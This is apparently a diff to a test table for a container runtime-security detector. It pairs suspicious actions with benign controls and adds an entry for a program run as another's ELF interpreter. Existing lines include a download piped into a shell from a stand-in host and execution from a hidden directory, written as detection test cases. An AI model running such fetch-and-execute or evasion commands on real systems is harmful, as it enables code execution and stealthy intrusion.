@@ -80,6 +80,7 @@ DEEDS = {
     "Shell with a terminal": ("deed terminal sh -c :", "deed run sh -c :"),
     "Program was written in the container": ("cp /opt/t/deed /opt/new; /opt/new nothing",
                                              "/opt/t/deed nothing"),
+    "Program runs another as its ELF interpreter": ("mkdir /tmp/w; wrapped /tmp/w", "/opt/t/deed nothing"),
     "Program runs from a hidden directory": ("/opt/.t/deed nothing", "/opt/t/deed nothing"),
     "Download goes into a shell": ("sh -c 'curl -s http://x.invalid/a | sh'",
                                    "sh -c 'curl -s http://x.invalid/a | cat'"),
